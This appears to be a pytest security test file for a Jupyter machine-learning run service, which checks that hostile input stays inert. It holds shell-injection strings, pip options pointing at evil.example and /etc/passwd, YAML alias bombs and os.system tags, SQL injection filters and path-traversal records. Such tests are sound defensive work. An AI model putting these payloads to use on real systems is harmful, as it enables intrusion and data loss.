"""Text stays text: in no shell, no SQL, no YAML and no record does it become anything else."""

from __future__ import annotations

import json
import time
from typing import Any
from urllib.parse import quote

import pytest
from IPython.utils.capture import capture_output

from jupyter_aml.magics.line import parameter
from tests.attacks.conftest import Victim
from tests.shells import an_ipython

HOSTILE = [
    "$(touch pwned)", "`touch pwned`", "; touch pwned", "a\ntouch pwned", "| touch pwned",
    "--help", "-c", "'", '"', "\\", "*", "~", "$HOME", "${IFS}", "%s%n", "{0.__class__}", "&", "",
    "\u202e", "\x1b[2J", "--", "{{7*7}}",
]  # fmt: skip


def test_arguments_names_and_tags_reach_the_script_as_they_are(victim: Victim) -> None:
    """Case 19, 25: through no shell and no template."""
    script = "import json, os, sys; print(json.dumps([sys.argv[1:], os.environ['GIVEN']]))"
    more = {
        "displayName": HOSTILE[0], "description": "\n".join(HOSTILE),
        "tags": dict.fromkeys(HOSTILE, HOSTILE[1]), "parameters": {"p": HOSTILE},
    }  # fmt: skip
    variables = {"GIVEN": "".join(HOSTILE)}

    run = victim.run(
        script, job={"command": ["main.py", *HOSTILE], "environmentVariables": variables}, **more
    )

    assert json.loads(victim.console(run)) == [HOSTILE, variables["GIVEN"]]
    assert {name: run[name] for name in more} == more
    assert list(victim.root.rglob("pwned")) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_could_be_an_option_or_a_command_is_none(victim: Victim, name: str) -> None:
    """Case 19: of experiments, workspaces, runs, environments, kernels and compute targets."""
    job = {"command": ["x"], "interpreter": "python"}
    run = {"experiment": "attack", "job": job}
    bodies: list[tuple[str, Any]] = [
        ("runs", {**run, "experiment": name}),
        ("runs", {**run, "runId": name}),
        ("runs", {**run, "workspace": name}),
        ("runs", {**run, "parentId": name}),
        ("runs", {**run, "job": {**job, "target": name}}),
        ("runs", {**run, "environment": {"name": name}}),
        ("workspaces", {"name": name}),
        ("experiments", {"workspace": "default", "name": name}),
        ("environments", {"definition": {"name": name}}),
        ("environments", {"name": name, "requirements": "numpy"}),
    ]

    for path, body in bodies:
        answer = victim.ask("POST", path, body)
        assert answer.code in (404, 422), (path, body, answer.body)


@pytest.mark.parametrize("line", [
    "--index-url http://evil.example/", "-r /etc/passwd", "-e git+http://evil.example/x",
    "--extra-index-url=http://evil.example", "-f http://evil.example", "--pre", "numpy --hash=x",
    "$(touch pwned)", "numpy; import os", "-c /etc/passwd", "file:///etc/passwd#egg=x",
])  # fmt: skip
def test_a_requirement_that_is_an_option_is_refused(victim: Victim, line: str) -> None:
    """Case 20: before anything is built; options would change where packages come from."""
    answer = victim.ask("POST", "environment-check", {"name": "x", "requirements": line})

    assert answer.code == 422 or (answer.json["definition"] is None and answer.json["mistakes"])


def test_variables_of_a_run_are_of_that_run_alone(victim: Victim) -> None:
    """Case 21: a run may set what it likes for itself, but not who it is."""
    wished = {
        "AML_RUN_ID": "stranger", "AML_RUN_DIR": "/tmp", "AML_ROOT": "/tmp", "AML_SOCKET": "/x",
        "PYTHONSTARTUP": "/evil.py", "MINE": "yes",
    }  # fmt: skip
    script = "import json, os; print(json.dumps(dict(os.environ)))"

    run = victim.run(script, job={"environmentVariables": wished})
    next_run = victim.run(script)

    told, told_next = (json.loads(victim.console(each)) for each in (run, next_run))
    assert (told["AML_RUN_ID"], told["MINE"]) == (run["runId"], "yes")
    assert told["AML_RUN_DIR"] == str(victim.folder_of(run).path)
    assert told["AML_ROOT"] == str(victim.root)
    assert told["AML_SOCKET"] != "/x"
    assert {"MINE", "PYTHONSTARTUP"}.isdisjoint(told_next)


@pytest.mark.parametrize("value", [
    "(" * 100_000, "[" * 10_000 + "]" * 10_000, "-" * 100_000 + "1", "9" * 100_000,
    "10**10**10", "__import__('os').system('touch pwned')", "{}.__class__", "{" * 5000, "'" * 9999,
    "1+" * 50_000 + "1", "\0", "1e999", "b'x'", "...",
])  # fmt: skip
def test_a_parameter_is_a_literal_or_text_and_never_code(value: str) -> None:
    """Case 22: parameters of the magics; deep and long ones end at once."""
    begun = time.thread_time()

    key, found = parameter(f"p={value}", {})

    assert key == "p"
    json.dumps(found, allow_nan=False)
    assert time.thread_time() - begun < 2


def test_a_cell_with_hostile_options_only_says_what_is_wrong(tmp_path: Any) -> None:
    """Case 19, 22: through IPython, no option of a magic reaches a shell."""
    pwned = tmp_path / "pwned"

    with an_ipython() as shell:
        shell.run_line_magic("load_ext", "jupyter_aml")
        for option in (f"$(touch {pwned})", f"`touch {pwned}`", f"-n '; touch {pwned}' --no-such"):
            with capture_output():
                shell.run_cell(f"%%aml submit {option} --dry-run --no-such-option\nprint(1)")

    assert not pwned.exists()


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(20)
)


@pytest.mark.parametrize("text", [
    BOMB, "!!python/object/apply:os.system ['touch pwned']", "a: !!python/name:os.system",
    "[" * 100_000, "{a: " * 10_000, "dependencies: [" + "x," * 300_000 + "]", "&a [*a]",
    "dependencies: !<tag:yaml.org,2002:python/module:os> x", "? " * 5000, "a: 1e999999999",
    "a: 0x" + "f" * 100_000, "a: " + "1:" * 3000 + "1", "\x00", "%TAG ! tag:evil,2000:\n--- !x y",
])  # fmt: skip
def test_yaml_is_plain_data_of_bounded_size(victim: Victim, text: str) -> None:
    """Case 23: no tags, no aliases, no depth."""
    begun = victim.spent()

    answer = victim.ask("POST", "environment-check", {"name": "x", "specification": text})

    assert answer.code == 422 or answer.json["mistakes"]
    assert victim.spent() - begun < 5
    assert list(victim.root.rglob("pwned")) == []


@pytest.mark.parametrize("raw", [
    "[" * 100_000, '{"a":' * 100_000, '{"a": NaN}', '{"a": Infinity}', '{"a": %s}' % ("9" * 99_999),
    '{"a": "\\ud800"}', "\x00", '"' * 1000, "{}x", '{"job": ' + "[" * 900 + "]" * 900 + "}",
    '{"job": {"timeout": ' + "9" * 4000 + "}}", '{"job": {"grace": 1e308}}', '{"source": []}',
])  # fmt: skip
@pytest.mark.parametrize("path", ["runs", "environments", "environment-check", "kernels"])
def test_json_that_is_none_or_too_much_is_told(victim: Victim, path: str, raw: str) -> None:
    """Case 23: depth, size, numbers that are none, halves of characters."""
    body = raw.replace('{"job"', '{"experiment": "attack", "job"').replace(
        '{"source"', '{"experiment": "attack", "job": {"command": ["x"]}, "source"'
    )

    answer = victim.ask("POST", path, raw=body.encode())

    assert answer.code in (400, 422) or (path == "environment-check" and answer.json["mistakes"])


def test_records_of_a_script_that_make_no_sense_do_no_harm(victim: Victim) -> None:
    """Case 23: what a script writes is read by the server."""
    script = r"""
import os
deep = "[" * 5000 + "]" * 5000
lines = [
    '["m","a",0,null,1e999]', '["m","a",1e999,null,1]', '["m","a",0,1e400,1]', '["m",{},0,null,1]',
    '["m","big",0,null,' + "9" * 4000 + ']', '["m"]', '[]', '{}', '["v","x",0,{},"a",' + deep + ']',
    '["v","y",0,0,"image",{"file":"../../../secret"}]', '["v","z",0,"s","nonsense",[]]',
    '["v","t",-1e300,0,"text","\\ud800"]', '["tag",[],{}]', '["tag","a",' + deep + ']',
    '["property","azureml.x",{}]', '["name",5]', '["name",""]', '["file","../../secret","x"]',
    '["child","../../../x",{},0]', '["child","/etc",{},0]', '["child",[],0]', '["fail"]'[:-1],
    '["child","..",{"displayName":5,"tags":[]},0]', '["unknown"]', '\x00\xff', '["m","a",0,0,NaN]',
]
with open(os.environ["AML_RUN_DIR"] + "/metrics/1-evil.jsonl", "w", encoding="latin-1") as file:
    file.write("\n".join(lines) + "\n")
"""
    before = {path.name for path in victim.root.rglob("*") if path.is_dir()}
    run = victim.run(script)

    metrics = victim.ask("GET", f"runs/{run['runId']}/metrics")
    page = victim.ask("GET", "runs?limit=5")

    assert run["status"] == "Completed", run["error"]
    assert (metrics.code, page.code) == (200, 200)
    assert b"NaN" not in metrics.body
    made = {path.name for path in victim.root.rglob("*") if path.is_dir()} - before
    assert {"etc", "x"}.isdisjoint(made)


@pytest.mark.parametrize("line", [
    "'; DROP TABLE runs; --", '"; ATTACH DATABASE \'/tmp/x\' AS y; --"', "tag.a':1", 'tag."a\'":1',
    "m') OR 1=1 --<1", "parent:none' OR '1'='1", "run:%", "type:' UNION SELECT * FROM runs --",
    "property.a\0:b", "PRAGMA journal_mode=off", "load_extension('/tmp/x')<5", "a/b%_\\", "%" * 900,
])  # fmt: skip
def test_a_filter_only_looks(victim: Victim, line: str) -> None:
    """Case 24: every value is bound; nothing of it is SQL."""
    victim.run("pass")
    before = victim.ask("GET", "runs").json["total"]

    found = victim.ask("GET", f"runs?filter={quote(line)}")
    sorted_so = victim.ask("GET", f"runs?sort=metric.{quote(line)}")

    assert found.code in (200, 422)
    assert found.code == 422 or found.json["total"] == 0
    assert sorted_so.code == 200
    assert victim.ask("GET", "runs").json["total"] == before


@pytest.mark.parametrize("line", [
    "a " * 5000, "tag.k:v " * 2000, "m<1 " * 4000, "x" * 15_000, "status:" + "failed," * 5000,
    '"' + "\\\\" * 5000, '"a' * 5001, "a<" * 5000, "ΐ" * 3000,
])  # fmt: skip
def test_a_filter_of_any_length_is_answered_soon(victim: Victim, line: str) -> None:
    """Case 24, 42: statements and patterns are bounded before a database sees them."""
    begun = victim.spent()

    answer = victim.ask("GET", f"runs?filter={quote(line)}")

    assert answer.code in (200, 422)
    assert victim.spent() - begun < 5


def test_a_cell_that_repeats_a_run_of_a_stranger_holds_no_code_but_that_of_the_run(
    victim: Victim,
) -> None:
    """Case 19, 26: whoever clones a run reads its cell; names cannot add a line to it."""
    evil = "x'\n\r\u2028import os; os.system('touch pwned')\n#"
    code = "print('mine')\n"
    run = victim.submit(
        "",
        source={"files": {"cell.py": code}},
        job={"command": ["-m", "jupyter_aml.sdk.cell_runner", "cell.py"]},
        displayName=evil,
        description=evil,
        tags={evil: evil, "--help": "-x"},
        parameters={evil: evil, "p": {evil: evil}},
    )

    answer = victim.ask("GET", f"runs/{run['runId']}/cell")

    magic, _, rest = answer.json["text"].partition("\n")
    assert magic.startswith("%%aml submit attack ")
    assert magic.splitlines() == [magic]
    assert rest == code
